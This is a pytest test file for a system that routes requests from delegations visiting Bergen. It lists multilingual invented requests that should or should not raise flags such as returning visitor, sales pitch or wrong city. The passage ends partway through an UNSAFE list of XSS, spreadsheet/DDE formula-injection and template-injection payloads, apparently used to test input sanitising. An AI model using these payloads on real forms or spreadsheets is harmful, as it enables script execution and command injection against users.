"""Each flag in many words and languages: invented requests that must raise it, and near ones that must not."""

# ruff: noqa: E501

from __future__ import annotations

from datetime import date
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from app.city.catalogue import catalogue_from_files
from app.routing import Catalogue, Enquiry, propose
from app.routing.types import Proposal

pytestmark = pytest.mark.one_engine
BERGEN = Path(__file__).parents[2] / "app" / "city" / "data" / "bergen"


@cache
def bergen() -> Catalogue:
    return catalogue_from_files(BERGEN)


def request(purpose: str, identity: str = "N", **fields: Any) -> Enquiry:
    plain: dict[str, Any] = {
        "organisation": "Dalby",
        "organisation_type": "city",
        "country": "SE",
        "city": "Dalby",
        "submitted_on": date(2027, 1, 12),
        "windows": ((date(2027, 6, 8), date(2027, 6, 9)),),
        "languages": ("en",),
        "group_size": 8,
        "head_level": "expert",
    }
    return Enquiry(id=identity, purpose=purpose, **{**plain, **fields})


def routed(purpose: str, **fields: Any) -> Proposal:
    return propose(request(purpose, **fields), bergen())


def flags(purpose: str, **fields: Any) -> tuple[str, ...]:
    return routed(purpose, **fields).flag_codes()


BEEN_HERE = [
    "In 2022 a group of our planners visited Bergen. We would now like to hear how the light rail went on.",
    "It is three years since your fire brigade showed us round; much has happened here. May we see the new station?",
    "Our second visit to Bergen, this time about waste: may we see the pneumatic pipes?",
    "The Ambassador, who was last received here in 2024, wishes to take leave of the mayor.",
    "The city where he was last received in 2023 and which he remembers warmly. A talk about schools would please him.",
    "We still remember the warm welcome at your library two autumns ago and would bring four new colleagues.",
    "Having toured your water works in 2021, we would like to follow up on leak detection.",
    "Our previous director studied your archives on site in 2019. Could we come and see the digital part?",
    "A follow-up to our study tour of last May: the kindergarten part was too short.",
    "Some of us know your city already from a study visit in 2018. Now it is about flood plans.",
    "We had the pleasure of being your guests in the spring of 2023 and would like to continue on housing.",
    "Vi var på studiebesøk hos dere i 2023 og vil gjerne se hvordan det gikk med bossnettet.",
    "Takk for sist! I fjor fikk vi se brannstasjonen, nå gjelder det skoler.",
    "Forrige gang vi gjestet Bergen handlet det om Bybanen, nå om sykkelveger.",
    "Me vitja dykk for fire år sidan og lurer på korleis det gjekk med innføringa av ny heimeteneste.",
    "Førre gongen me var hos dykk såg me skular, no gjeld det barnehagar.",
    "Vi besökte er hösten 2022 och vill nu lära mer om dagvatten.",
    "Några av oss har varit i Bergen tidigare för att se spårvägen, nu gäller det bostäder.",
    "Vi har tidligere været på besøg hos jer og vil gerne høre mere om skybrud.",
    "Sidst vi var i Bergen, så vi biblioteket. Nu gælder det arkivet.",
    "Bereits 2021 durften wir Ihre Feuerwehr besichtigen; nun geht es um Löschwasser in Holzvierteln.",
    "Nach unserem Besuch im Jahr 2019 möchten wir sehen, was aus der Stadtbahn geworden ist.",
    "Einige von uns waren vor drei Jahren schon in Bergen. Diesmal interessieren uns Schulen.",
    "Nous étions venus en 2022 voir votre tramway ; cette fois il s'agit des écoles.",
    "Lors de notre passage à Bergen il y a deux ans, nous n'avions pas eu le temps de voir le port.",
    "Une partie de notre équipe s'est déjà rendue à Bergen en 2021. Nous aimerions parler des déchets.",
    "Ya estuvimos en Bergen en 2019 y queremos conocer lo nuevo sobre residuos.",
    "Hace tres años nos recibieron en su biblioteca; ahora nos interesa el archivo.",
    "Siamo già stati da voi nel 2020 e vorremmo approfondire il tema dei rifiuti.",
    "Due anni fa alcuni colleghi hanno visitato Bergen; ora ci interessa la scuola.",
    "Byliśmy już w Bergen w 2021 roku, teraz interesują nas szkoły.",
    "Trzy lata temu gościli nas Państwo w bibliotece; teraz chcielibyśmy zobaczyć archiwum.",
    "In 2021 waren wij al eens bij u op werkbezoek; nu gaat het over scholen.",
    "Drie jaar geleden bezocht een deel van ons team Bergen. Nu willen we over afval praten.",
    "Nossa equipe esteve em Bergen em 2022 e quer agora conhecer as escolas.",
    "Welcome us back? We liked the talk on fire drills so much that the whole board wants to hear it.",
]
NOT_BEEN_HERE = [
    "Your planners visited us in 2022 and told us about the light rail. Now we would like to see it.",
    "Colleagues from the city of Linz were in Bergen last year and praised your waste pipes. May we see them too?",
    "We will be in Bergen in June and would like to see how the light rail was built.",
    "None of us has been to Bergen. We want to learn about kindergartens.",
    "We were told that you reuse stormwater. Can we see it? We return to Oslo at four.",
    "When the herring came back, so did the canneries. We want to compare our harbour plans with yours.",
    "We met your fire chief in Ghent last year and would like to continue about wooden houses.",
    "Nous serons chez vous pendant les Festspillene pour parler des subventions aux arts de la rue.",
    "Wir sind im Juni in Bergen und möchten die Feuerwehr sehen.",
    "Dere var hos oss i 2022. Nå vil vi gjerne se hvordan dere driver biblioteket.",
    "Ordføreren deres besøkte oss i fjor og fortalte om Bybanen. Den vil vi gjerne se.",
    "Vi kommer til Bergen i juni og vil gjerne se brannstasjonen.",
    "Estaremos en Bergen en junio y nos gustaría visitar su biblioteca.",
    "Saremo a Bergen a giugno e vorremmo vedere la vostra biblioteca.",
    "Wij zijn in juni in Bergen en willen graag de brandweer bezoeken.",
    "Będziemy w Bergen w czerwcu i chcielibyśmy odwiedzić bibliotekę.",
    "Vi er åtte lærere som skal til Bergen i juni. Alle har vært på kurs i leseopplæring og vil se skolebibliotek.",
    "Ihre Kollegen waren letztes Jahr bei uns. Nun möchten wir Ihre Schulen sehen.",
    "A phone call with your office last week was very helpful: we should describe our wish to see the water works.",
    "I help the Busan people. I don't know if they have already been in touch with you about the shore control centre.",
    "Our pupils have been learning about Grieg and would like to see a rehearsal at a music school.",
    "We visited Oslo and Stavanger last year and now want to see how Bergen collects waste.",
]


@pytest.mark.parametrize("purpose", BEEN_HERE)
def test_returning_visitor_when_an_earlier_visit_is_told(purpose: str) -> None:
    assert "returning-visitor" in flags(purpose)


@pytest.mark.parametrize("purpose", NOT_BEEN_HERE)
def test_no_returning_visitor_when_the_visit_was_another(purpose: str) -> None:
    assert "returning-visitor" not in flags(purpose)


NETWORKS = [
    (
        "mayors-for-peace",
        "We have just joined the network of mayors against nuclear weapons and ask what you do with the young.",
    ),
    (
        "mayors-for-peace",
        "Me er nyleg med i nettverket av ordførarar mot atomvåpen og vil høyre kva de gjer for dei unge.",
    ),
    ("mayors-for-peace", "Nasze miasto należy do Burmistrzów dla Pokoju i chce porozmawiać o edukacji młodzieży."),
    (
        "mayors-for-peace",
        "Das in Hiroshima gegründete Bürgermeisterbündnis gegen Atomwaffen verbindet uns; wie beziehen Sie Schulen ein?",
    ),
    ("mayors-for-peace", "Notre ville a rejoint le réseau des maires pour la paix et voudrait parler de jeunesse."),
    ("mayors-for-peace", "Siamo membri dei Sindaci per la Pace e vorremmo parlare con le scuole."),
    ("owhc", "Como ciudad miembro de la OCPM queremos hablar de incendios en casas de madera."),
    ("owhc", "Wir kommen über die Organisation der Welterbestädte und möchten über Brandschutz sprechen."),
    ("owhc", "Notre ville est membre de l'OVPM ; nous aimerions parler des incendies dans les quartiers de bois."),
    (
        "icorn",
        "Le bureau du réseau des villes refuges à Stavanger nous a conseillé de parler avec vous des écrivains menacés.",
    ),
    ("icorn", "Das Netzwerkbüro in Stavanger empfahl uns Bergen: seit Mai lebt bei uns eine verfolgte Autorin."),
    ("icorn", "We host a persecuted poet through the cities of refuge network and want to compare the first months."),
    ("icorn", "Vi er nye i nettverket for fribyer og vil gjerne snakke om hva kunstneren trenger etter to år."),
    ("creative-cities-gastronomy", "As a fellow UNESCO city of gastronomy we would like to compare food policies."),
    (
        "creative-cities-gastronomy",
        "Come città creativa UNESCO per la gastronomia vorremmo confrontare le nostre politiche del cibo.",
    ),
    (
        "memory-of-the-world",
        "May we ask those who wrote the inscription of the leprosy archives on the UNESCO register for advice?",
    ),
    ("covenant-of-mayors", "Aderiamo al Patto dei Sindaci e vorremmo parlare del piano clima."),
    ("covenant-of-mayors", "Jako sygnatariusz Porozumienia Burmistrzów chcemy porozmawiać o klimacie."),
    ("covenant-of-mayors", "We signed the CoM for climate and energy and would like to compare action plans."),
    (
        "intercultural-cities",
        "Siamo nella rete delle città del dialogo interculturale e vorremmo parlare di inclusione.",
    ),
    (
        "intercultural-cities",
        "Our city is in the Council of Europe programme for intercultural integration and wants to compare indicators.",
    ),
    ("rainbow-cities", "Als regenboogstad willen wij praten over veiligheid van lhbti-jongeren."),
    (
        "rainbow-cities",
        "We are the new LGBTI policy officers in the RCN and would like to see how you work with schools.",
    ),
    ("hansa", "Als Mitglied im Hansebund möchten wir über das Hansemuseum sprechen."),
    ("hansa", "W ramach Nowej Hanzy chcielibyśmy porozmawiać o muzeum hanzeatyckim."),
    ("hansa", "Als lid van het verbond van Hanzesteden willen wij het Hanzemuseum zien."),
    ("sstt", "Through our national NoDig society we heard of your pipe renewal and want to see a site."),
    (
        "world-urban-parks",
        "Our ops team is in Europe for the World Urban Parks congress and wants to see how you keep forest paths.",
    ),
    (
        "eurocities",
        "Nous sommes collègues au sein du groupe de travail d'Eurocities sur le logement et voudrions vous voir.",
    ),
    ("iclei", "Somos miembros de ICLEI y queremos hablar de compras públicas sostenibles."),
    ("wapr", "Como miembros de la Asociación Mundial de Rehabilitación Psicosocial queremos conocer Fontenehuset."),
    ("nordisk-veiforum", "Kommittén för drift inom Nordiskt vägforum vill se hur ni sköter vägarna vintertid."),
    ("ubc", "Jako członek Związku Miast Bałtyckich interesujemy się młodzieżą."),
]
NO_NETWORKS = [
    "As a C40 city we want to compare your climate budget.",
    "We belong to the Eurotowns network and would like to see your cycle lanes.",
    "Our mayors' association wants to hear how you run home care.",
    "We come through METREX and Polis to talk about metropolitan planning.",
    "Wie verteilt die Stadt die Quote für bezahlbare Mietwohnungen? Das Modell der Stadt in 3D interessiert uns.",
    "Our UNESCO chair studies coastal ecosystems and wants to meet researchers.",
    "We want to see the Hanseatic Museum and hear how it was restored.",
    "We do not belong to Mayors for Peace; it is about waste.",
    "The network of our water pipes is old. How do you renew yours?",
    "Our office in Stavanger suggested that you know most about wooden houses.",
    "Our museum studies the Hanseatic League and its trade in stockfish; we want to see your collection.",
    "Unser Geschichtskurs untersucht, wie die Hanse mit Stockfisch handelte, und möchte das Museum sehen.",
    "Our UNESCO world heritage town wants to hear how you register changes to wooden houses.",
    "Our mayor will lay flowers for peace; the community signed a climate pledge and wants to see your ferries.",
    "How are rainbow crossings chosen in your city? The school network of our town asks.",
    "The festival secretariat in Stavanger sent us to you: we want to hear about stages and permits.",
    "Our union of bus drivers wants to see the depot.",
    "Nous aimerions voir le réseau de chaleur et parler avec les maires d'arrondissement.",
]


@pytest.mark.parametrize(("slug", "purpose"), NETWORKS)
def test_network_by_name_abbreviation_or_description(slug: str, purpose: str) -> None:
    proposal = routed(purpose)
    assert ("network" in proposal.flag_codes(), proposal.partnerships) == (True, (slug,))


@pytest.mark.parametrize("purpose", NO_NETWORKS)
def test_no_network_when_none_of_the_catalogue_is_meant(purpose: str) -> None:
    assert "network" not in flags(purpose)


PRIVATE_TRIPS = [
    (
        "Happy Ramblers",
        "We are eighteen walkers who come by train in May to hike Vidden. Where is it wise to stay, and is there a discount on the funicular for seniors? A coffee with someone who tells about the town would be lovely.",
    ),
    (
        "Turgjengen Lett på tå",
        "Vi er 14 venninner som skal gå fra Ulriken til Fløyen. Hvor bør vi bo, og finnes det rabatt for honnør på banen? Kanskje noen vil guide oss litt?",
    ),
    (
        "Pensjonistlaget Solkroken",
        "Me er 30 pensjonistar på busstur til Bergen og lurer på kor me kan ete rimeleg, og om nokon kan vise oss rundt i byen.",
    ),
    (
        "Seniorklubben Vårblomman",
        "Vi är tjugo pensionärer på bussresa i Norge. Var bor man billigt, och kan någon från kommunen guida oss gratis en förmiddag?",
    ),
    (
        "Vandreklubben Fodslaw",
        "Vi er 22 glade vandrere der kommer til Bergen i august. Hvor kan vi overnatte billigt, og er der rabat til svævebanen?",
    ),
    (
        "Kegelverein Alle Neune",
        "Wir sind zwölf Kegelbrüder auf Vereinsfahrt. Können Sie uns eine günstige Unterkunft und eine Stadtführung mit Bier empfehlen? Ermäßigung für die Standseilbahn wäre toll.",
    ),
    (
        "Wanderfreunde Eifel",
        "Unsere Wandergruppe möchte über die sieben Berge laufen. Wo kann man gut essen und übernachten, und gibt es Seniorenrabatt?",
    ),
    (
        "Amicale des anciens",
        "Nous sommes trente retraités en croisière et passerons une journée à Bergen. Où bien manger, et y a-t-il une réduction pour le funiculaire ? Quelqu'un pourrait-il nous faire visiter la ville ?",
    ),
    (
        "Amigos viajeros",
        "Somos doce amigos jubilados de vacaciones. ¿Nos recomiendan un hotel barato y un paseo en barco por los fiordos? ¿Hay descuento para el funicular?",
    ),
    (
        "Circolo pensionati",
        "Siamo venti pensionati in gita. Ci consigliate un albergo economico e dove mangiare il pesce? C'è uno sconto per la funicolare?",
    ),
    (
        "Klub Seniora",
        "Jesteśmy grupą emerytów na wycieczce. Gdzie tanio przenocować i czy są zniżki na kolejkę? Czy ktoś mógłby oprowadzić nas po mieście?",
    ),
    (
        "Wandelclub De Stappers",
        "Wij zijn met vijftien wandelvrienden op vakantie. Waar kunnen we goedkoop overnachten en is er korting voor het treintje?",
    ),
    (
        "Sandra's hens",
        "Eleven girls coming over for a hen weekend! Which bars have karaoke, and could the mayor record a message for the bride?",
    ),
    (
        "Class of 1987",
        "Forty years since we left school, and we celebrate in Bergen. Could someone give us a fun talk about trolls and can we get cheap aquarium tickets?",
    ),
    (
        "The Andersen family",
        "We are nine cousins from Minnesota looking for the farm our great-grandfather left. Could somebody drive us and have lunch with us?",
    ),
    (
        "Vintage Volvo Owners",
        "Thirty classic cars roll off the ferry in July. Where may we park for a photo by the harbour, and which cafe has waffles?",
    ),
    (
        "FC Rovers Supporters",
        "Sixty fans are coming for the match against Brann. Which pubs do you suggest and can we march from the square?",
    ),
    (
        "Book club Thursday",
        "Our book club wants a long weekend in Bergen with good food, a walk where the crime novels happen, and a cosy hotel with a group rate.",
    ),
    (
        "Golden Years Travel Club",
        "Our members sail with Hurtigruten. Please send brochures, city maps and vouchers, and let a guide meet us at the quay.",
    ),
    (
        "Motorradfreunde",
        "Wir machen eine Motorradtour durch Norwegen und suchen einen Campingplatz und eine Kneipe zum Fußballschauen.",
    ),
    (
        "Venninnegjengen",
        "Vi skal på jentetur! Tips til restauranter, spa og shopping tas imot med takk, og kan noen vise oss hemmelige smug?",
    ),
]
PROFESSIONAL_TRIPS = [
    (
        "Hiking association",
        "ngo",
        "Our trekking association maintains 400 km of paths and wants to learn how the city marks and repairs paths to Fløyen, with the rangers.",
    ),
    (
        "Pensjonistforbundet",
        "ngo",
        "Pensjonistforbundet vil lære om eldreråd, hjemmetjeneste og aktivitetssentre. Vi er 20 tillitsvalgte.",
    ),
    (
        "Tourism office of Piran",
        "city",
        "We want to hear how you limit cruise ships and guide hotel development. Please suggest a hotel near the town hall too.",
    ),
    (
        "Alumni of the planning school",
        "university",
        "Twelve planners who graduated together and now head departments want to study densification along the light rail.",
    ),
    (
        "Kegelverband",
        "other",
        "Der Sportverband möchte sehen, wie die Stadt Hallenzeiten an Vereine vergibt und Gebühren festlegt.",
    ),
    (
        "Reiseveranstalter Nord",
        "business",
        "Wir planen Bahnreisen nach Westnorwegen und möchten mit Ihrer Tourismusorganisation über die Nebensaison sprechen.",
    ),
    (
        "Chamber choir Vox",
        "cultural-institution",
        "Our choir sings with a Bergen choir in May; we want to meet the school of culture about choir teaching and joint concerts.",
    ),
    (
        "Seniorenrat",
        "ngo",
        "Der Seniorenrat unserer Stadt möchte mit Ihrem Seniorenrat über altersgerechtes Wohnen und Pflege sprechen.",
    ),
    (
        "Friends of the old ships",
        "ngo",
        "Our volunteers restore a steamship and wish to learn from your museum's boat builders about caulking and documentation.",
    ),
]


@pytest.mark.parametrize(("organisation", "purpose"), PRIVATE_TRIPS)
def test_a_private_trip_is_kindly_declined(organisation: str, purpose: str) -> None:
    proposal = routed(purpose, organisation=organisation, organisation_type="other")
    assert ("not-a-delegation" in proposal.flag_codes(), proposal.decision) == (True, "suggest-decline")


@pytest.mark.parametrize(("organisation", "kind", "purpose"), PROFESSIONAL_TRIPS)
def test_a_professional_trip_is_a_delegation(organisation: str, kind: str, purpose: str) -> None:
    proposal = routed(purpose, organisation=organisation, organisation_type=kind)
    assert proposal.flag_codes() == ()


SALES = [
    "We would like to demo our smart bin platform to your waste managers. Used by 200 cities, it cuts costs by 30%.",
    "Our award-winning app helps 500 schools. We are on a roadshow in May and offer an exclusive knowledge exchange with your IT procurement. The first ten municipalities get 40% off.",
    "Dear decision maker, book a 20-minute slot and see how our AI scheduling reduces sick leave by up to 25 %. No obligation.",
    "We are manufacturer of LED street light and solar pole since 1998. Our director will visit to present product range and best FOB price. Please confirm appointment with purchase head.",
    "Could we show your water department our patented leak sensor? We offer a free trial of three months and can bring references and a price list.",
    "We have a case study that proves an ROI of 340% and would love half an hour with your head of procurement.",
    "Vi tilbyr markedets beste renholdsroboter og vil gjerne ha et møte med innkjøpsavdelingen for å presentere løsningen vår og gi et godt tilbud.",
    "Me leverer eit prisvinnande fagsystem for skular og ynskjer å vise det fram for dei som tek avgjerdene. Gratis prøveperiode i tre månader!",
    "Vi erbjuder en prisbelönt plattform för kommuner och vill boka en demo med era beslutsfattare. Just nu 30 % rabatt på licensen.",
    "Vores software sparer kommuner for 20 %. Vi kommer gerne forbi og giver en gratis demo for jeres indkøbere.",
    "Unsere Firma ist Marktführer bei Straßenreinigungsmaschinen. Wir möchten Ihrem Einkauf unsere neuen Geräte vorführen und ein unverbindliches Angebot machen.",
    "Nous sommes leader des bornes de stationnement et souhaitons présenter notre gamme à votre service achats, avec un essai gratuit et un tarif préférentiel.",
    "Somos fabricantes de contenedores y queremos presentar nuestro catálogo al departamento de compras, con descuento por volumen.",
    "Siamo produttori di lampioni intelligenti e vorremmo presentare i nostri prodotti al vostro ufficio acquisti; offriamo uno sconto del 20%.",
    "Jesteśmy producentem wiat przystankowych i chcielibyśmy przedstawić naszą ofertę działowi zakupów. Pierwszym klientom dajemy rabat.",
    "Wij zijn marktleider in slimme parkeersensoren en willen onze oplossing graag demonstreren bij uw inkoopafdeling; vrijblijvende offerte inbegrepen.",
]
NO_SALES = [
    (
        "business",
        "We are looking for a site for a battery plant and want to hear about plots, power and quay. Our product is used in 40 countries.",
    ),
    ("business", "Our hotel chain wants to open a hotel and asks about zoning, prices of land and the labour market."),
    (
        "business-association",
        "A trade mission of 15 food companies wants to meet the chamber and Norwegian importers and present their products at a matchmaking.",
    ),
    ("business", "Our engineers want to learn how your district heating was built; we sell nothing here."),
    (
        "cluster",
        "Our cluster of maritime suppliers wants to meet your cluster about a joint project on hydrogen. Members offer solutions for storage.",
    ),
    (
        "business",
        "Vi vurderer å etablere et kontor i Bergen og vil gjerne snakke om lokaler, rekruttering og støtteordninger.",
    ),
    (
        "business",
        "Wir prüfen Standorte für eine Niederlassung und möchten über Fachkräfte und Gewerbeflächen sprechen.",
    ),
    ("business", "Nous cherchons des fournisseurs norvégiens de pompes et souhaitons rencontrer le cluster."),
    (
        "business",
        "We buy salmon for our shops in Spain and want to meet producers; prices have risen and clients ask why.",
    ),
    (
        "university",
        "We study how cities procure software and want to interview your procurement officers on licence costs and vendors.",
    ),
    (
        "city",
        "We want to hear what your parking platform costs, which vendor you chose and how much it reduced traffic by: 20%?",
    ),
    (
        "business",
        "Our start-up has won an EU grant and looks for a research partner at the university on seaweed packaging.",
    ),
]


@pytest.mark.parametrize("purpose", SALES)
def test_a_sales_visit_is_kindly_declined(purpose: str) -> None:
    proposal = routed(purpose, organisation="Klarvik Systems", organisation_type="business")
    assert ("commercial" in proposal.flag_codes(), proposal.decision) == (True, "suggest-decline")


@pytest.mark.parametrize(("kind", "purpose"), NO_SALES)
def test_those_who_invest_buy_or_learn_do_not_sell(kind: str, purpose: str) -> None:
    assert "commercial" not in flags(purpose, organisation="Klarvik", organisation_type=kind)


LETTERS = [
    "Kindly issue invitation letters for our nine members so that they can get visas. Programme is not needed.",
    "For the embassy file please provide a sponsor letter from City Hall. There is no need to spend time on a programme.",
    "The consulate demands a paper from a public body saying that we are invited. One per delegate, with seal and signature.",
    "We need only your official invitation for visa; flights and hotels are booked.",
    "Prière de nous faire parvenir des lettres d'invitation pour nos douze délégués afin d'obtenir le visa Schengen.",
    "Solicitamos una carta de invitación para el visado de cinco personas. No hace falta reunión.",
    "Bitte senden Sie uns Einladungsschreiben für das Visum von acht Personen. Ein Programm ist nicht nötig.",
    "Vi trenger bare et invitasjonsbrev til visumsøknaden for sju personer.",
    "Prosimy o wystawienie zaproszenia do celów wizowych dla ośmiu osób.",
]
LETTER_AND_VISIT = [
    "We want to see how you protect wooden houses from fire: sprinklers, cameras, drills with residents. Please also send an invitation letter for the visa centre.",
    "Twelve head teachers would like to visit schools with many languages and talk with teachers about reading. For the visa we shall need letters of invitation.",
    "Our engineers wish to see the water treatment plant and discuss leakage. Kindly issue an invitation letter with the six names.",
    "Nous souhaitons étudier la collecte des déchets par tubes et rencontrer vos techniciens. Merci de prévoir une lettre d'invitation pour le visa.",
    "Our museum staff would spend two days with the Hanseatic Museum on conservation of fish-oil stained wood. Visa letters will be needed for all five.",
]
NO_LETTERS = [
    "Your letter of last week was most kind. We would like to see the library.",
    "We have our visas already and do not need an invitation letter. We want to see the schools.",
    "The mayor will bring a letter for the mayor of Bergen and would like to hear about the harbour.",
]


@pytest.mark.parametrize("purpose", LETTERS)
def test_an_invitation_letter_and_nothing_else_is_declined(purpose: str) -> None:
    proposal = routed(purpose, organisation="Al-Safa Group", organisation_type="other", country="PK", city="Lahore")
    assert (proposal.flag_codes(), proposal.decision) == (("invitation-letter",), "suggest-decline")


@pytest.mark.parametrize("purpose", LETTER_AND_VISIT)
def test_a_visit_that_also_asks_for_a_letter_is_routed(purpose: str) -> None:
    proposal = routed(purpose, country="VN", city="Huế")
    assert (proposal.flag_codes(), proposal.decision) == (("invitation-letter",), "route")


@pytest.mark.parametrize("purpose", NO_LETTERS)
def test_a_letter_of_another_kind_is_no_invitation_letter(purpose: str) -> None:
    assert "invitation-letter" not in flags(purpose)


EVENTS = [
    ("", "We come for the Bergen International Festival and would like to meet those who fund the stages."),
    ("", "Rund um die Festspiele in Bergen möchten wir über Kulturförderung sprechen."),
    ("", "Pendant la Semaine One Ocean nous aimerions rencontrer le cluster."),
    (
        "",
        "Our group attends the Nordic Conference on Water Tunnels in Bergen and wants to see your plant the day before.",
    ),
    ("", "I forbindelse med Nordiske Mediedager vil vi gjerne se Media City."),
    ("", "Vi ska på Bergenfest och vill prata med er om buller vid konserter."),
    ("Havforum 2027, Grieghallen", "We want to talk with the cluster about offshore wind."),
    ("Nordic Library Days (Bergen)", "We want to see the main library."),
    ("BIFF", "We want to talk about funding of film."),
    ("", "Przy okazji Bergen International Film Festival chcielibyśmy porozmawiać o kinach studyjnych."),
    ("Tall Ships Race", "How does the harbour handle so many ships? We want to see the quays."),
]
NO_EVENTS = [
    (
        "World Parks Congress, Tallinn",
        "We want to see how you keep forest paths. We come from the congress in Tallinn.",
    ),
    ("ECCA conference in Rotterdam the week before", "How do you plan for floods?"),
    ("Nor-Shipping", "On our way home from Nor-Shipping we would like to meet the cluster."),
    ("17. mai", "We would like to see the children's parade and talk with schools about it."),
    ("none", "We want to see the library."),
    ("Ingen", "Vi vil gjerne se biblioteket."),
    ("", "After the Smart City Expo in Barcelona, where you spoke, we want to see the light rail."),
    ("", "We organise a film festival at home and want to hear how Bergen supports its cinemas."),
    ("", "Ops team x7, in Europe for the parks congress (Tallinn, wk before). Want: rangers, forest paths."),
    ("IFLA WLIC (Busan)", "We want to compare library buildings."),
    ("Our own annual retreat", "We hold it in Bergen and would like to hear about home care."),
    ("COP32 Addis Ababa", "We want to compare climate budgets."),
]


@pytest.mark.parametrize(("event", "purpose"), EVENTS)
def test_linked_event_when_it_is_in_this_city(event: str, purpose: str) -> None:
    assert "linked-event" in flags(purpose, event=event)


@pytest.mark.parametrize(("event", "purpose"), NO_EVENTS)
def test_no_linked_event_elsewhere_or_on_a_holiday(event: str, purpose: str) -> None:
    assert "linked-event" not in flags(purpose, event=event)


UNCLEAR = [
    "Study trip. About 8 people. Programme as last agreed on the telephone.",
    "Studietur. Ca 8 pers. Program som sist avtalt på telefon.",
    "Som avtalt med Kari. Vi kommer rundt ti.",
    "Enligt överenskommelse per telefon. Vi är sex personer.",
    "Besuch wie mit Ihrem Büro telefonisch besprochen, acht Personen.",
    "Visite comme convenu avec votre bureau. Nous serons douze.",
    "Visita según lo hablado por teléfono. Seremos diez personas.",
    "Visita come concordato al telefono. Siamo in otto.",
    "Wizyta zgodnie z rozmową telefoniczną, osiem osób.",
    "Bezoek zoals telefonisch besproken, met acht personen.",
    "See attached letter.",
    "Official visit to strengthen our friendship and explore cooperation in various fields of mutual interest.",
    "Please see the agenda in the attached file. Our group will arrive at 10.",
    "We are a delegation from our region and wish to visit your city and meet the relevant people.",
    "Делегація планує візит до вашого міста.",
    "test",
    "?",
]
CLEAR = [
    "Library visit, 6 pers, 2 hours.",
    "Brannvern i trehusbebyggelse. 6 pers.",
    "Skoler.",
    "As agreed on the telephone with the fire chief: wooden houses, sprinklers and drills with residents.",
    "Avfallssug, kildesortering.",
    "How do you fund home care for the elderly, and can we meet the nurses?",
    "Schulen mit vielen Sprachen, Lehrkräfte, Leseförderung.",
    "Comme convenu avec Mme Berg, nous venons voir la collecte des déchets et le tramway.",
]


@pytest.mark.parametrize("purpose", UNCLEAR)
def test_unclear_purpose_when_there_is_nothing_to_route_on(purpose: str) -> None:
    proposal = routed(purpose, organisation="Office of International Affairs", organisation_type="region")
    assert (proposal.flag_codes(), proposal.decision) == (("unclear-purpose",), "coordinator-review")


@pytest.mark.parametrize("purpose", CLEAR)
def test_a_short_text_with_a_subject_is_clear(purpose: str) -> None:
    assert routed(purpose).decision == "route"


def test_a_text_nobody_reads_is_clear_when_a_subject_is_ticked() -> None:
    ukrainian = "Ми хотіли б дізнатися, як місто організовує пожежну охорону дерев'яних будинків."
    assert flags(ukrainian, country="UA", themes=("emergency-rescue",), languages=("uk", "en")) == ()


ASTRAY = [
    "We look forward to the Kranenburgh museum and the dunes on our day in Bergen, and to the artists' village.",
    "Wir möchten die Gedenkstätte Bergen-Belsen besuchen und mit Ihrem Bürgermeister sprechen.",
    "Can the mayor of Bergen op Zoom receive our carnival committee? We would like to see the Markiezenhof.",
    "Our township wants to learn from Bergen County how to run shared courts; we can be in Hackensack by ten.",
    "We are coming to Rügen and would like to see the town hall of Bergen auf Rügen.",
    "Nous venons à Mons pour la Ducasse et voudrions rencontrer l'échevin de Bergen.",
]
HERE = [
    "We come from Bergen op Zoom, also a Bergen, and would like to see the fire station in your Norwegian namesake.",
    "After Bergen-Belsen, where our pupils were last year, we want to compare how schools in Norway teach about the war.",
    "Our town lies in Bergen County; half of us have Norwegian names. We want to learn about your light rail.",
]


@pytest.mark.parametrize("purpose", ASTRAY)
def test_meant_for_another_place_of_the_name(purpose: str) -> None:
    proposal = routed(purpose, country="FR", city="Dijon")
    assert ("wrong-city" in proposal.flag_codes(), proposal.decision) == (True, "suggest-decline")


@pytest.mark.parametrize("purpose", HERE)
def test_meant_for_this_city_though_another_is_named(purpose: str) -> None:
    assert "wrong-city" not in flags(purpose, country="NL", city="Bergen op Zoom")


FIRST = request(
    "Our association has 64 members: yards, sensor makers, insurers. We want to see remote operation rooms, the fjord test area and makers of electric drives.",
    "A",
    organisation="Korea Unmanned Ship Association",
    organisation_type="business-association",
    country="KR",
    city="Busan",
    head_name="Kim Tae-woo",
    group_size=11,
    themes=("maritime",),
)
SAME_ERRAND: list[tuple[str, dict[str, Any]]] = [
    (
        "I help the Busan people. Eleven persons from the unmanned ship association want to see a shore control centre, the test range and electric propulsion.",
        {"organisation": "KUSA c/o Korea Desk Oslo", "country": "NO", "city": "Oslo", "head_name": "Mr. T. W. Kim"},
    ),
    (
        "We write for Korean guests: remote operation of ships, test areas in fjords, electric drives.",
        {"organisation": "Nordic Programmes AS", "country": "NO", "head_name": "Tae-woo Kim"},
    ),
    (
        "Our association wants to see remote operation rooms and the fjord test area.",
        {"organisation": "Korea Unmanned Ship Assoc.", "country": "KR", "head_name": ""},
    ),
]
OTHER_ERRAND: list[tuple[str, dict[str, Any]]] = [
    (
        "We want to see kindergartens and talk about play outdoors.",
        {"organisation": "City of Busan", "country": "KR", "head_name": "Park Ji-ho", "themes": ("kindergarten",)},
    ),
    (
        "Our yard owners want to see shore control centres and the test range.",
        {"organisation": "Gdynia Maritime Cluster", "country": "PL", "head_name": "Anna Wilk", "group_size": 7},
    ),
    (
        "We want to see remote operation rooms and the fjord test area.",
        {
            "organisation": "Korea Unmanned Ship Association",
            "country": "KR",
            "head_name": "Kim Tae-woo",
            "windows": ((date(2027, 9, 8), date(2027, 9, 10)),),
        },
    ),
]


def repeated(purpose: str, fields: dict[str, Any]) -> str | None:
    usual = {"group_size": 11, "themes": ("maritime",), "organisation_type": "business-association"}
    again = request(purpose, "B", submitted_on=date(2027, 2, 3), **{**usual, **fields})
    return propose(again, bergen(), earlier=[FIRST]).duplicate_of


@pytest.mark.parametrize(("purpose", "fields"), SAME_ERRAND)
def test_duplicate_from_the_sender_or_somebody_for_them(purpose: str, fields: dict[str, Any]) -> None:
    assert repeated(purpose, fields) == "A"


@pytest.mark.parametrize(("purpose", "fields"), OTHER_ERRAND)
def test_no_duplicate_of_another_errand_sender_or_week(purpose: str, fields: dict[str, Any]) -> None:
    assert repeated(purpose, fields) is None


UNSAFE = [
    {"purpose": "We want to see the library <script>alert(1)</script>"},
    {"organisation": '=HYPERLINK("http://example.org";"click")'},
    {"contact_name": "+cmd|' /C calc'!A0"},
    {"head_name": "@SUM(1+1)*cmd"},
    {"event": "<img src=x onerror=alert(1)>"},
    {"purpose": "Library visit {{7*7}} and schools"},
    {"relation": "javascript:alert(1)"},
    {"organisation": "=1+1"},
